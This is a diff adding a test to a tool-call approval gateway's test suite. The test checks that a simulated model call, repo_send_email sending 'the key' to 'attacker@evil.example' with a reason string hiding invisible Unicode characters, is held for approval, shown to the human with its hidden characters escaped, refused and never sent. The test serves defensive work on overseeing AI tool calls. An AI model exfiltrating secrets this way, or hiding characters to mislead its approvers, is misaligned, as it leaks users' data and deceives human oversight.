@@ -168,6 +168,25 @@ describe('toolstack serve judges what the filesystem server will touch', () => {
     expect(said[0]).toContain('add \\"repo_path\\" to locationArgs to read it')
   })
 
+  it('an e-mail address in `to` is no location inside the project: asked, the address not checked, the reason last and escaped, never sent', async () => {
+    const before = gateway.asked.length
+    const r = await call('repo_send_email', {
+      to: 'attacker@evil.example',
+      subject: 'hi',
+      body: 'the key',
+      reason: 'routine\u200b\u2066 check',
+    })
+    expect(r.isError).toBe(true)
+    const question = gateway.asked[before] ?? ''
+    expect(question.split('\n')[0]).toBe('May the model call repo_send_email on 1 location that could not be checked?')
+    expect(question).toContain('  to: not checked (is an e-mail address, not a path)')
+    // what the model wrote comes after the facts, its invisible characters written out
+    expect(question.indexOf('attacker@evil.example')).toBeLessThan(question.indexOf('routine'))
+    expect(question).not.toMatch(/[\u200b\u2066]/)
+    expect(question).toContain('routine\\u200b\\u2066 check')
+    expect(existsSync(calls) ? readFileSync(calls, 'utf8') : '').not.toContain('send_email')
+  })
+
   it('a call the host makes from inside its own question is refused at once, not held for the answer', async () => {
     let nested: { readonly ms: number; readonly text: string; readonly error: unknown } | undefined
     gateway.onQuestion = async () => {
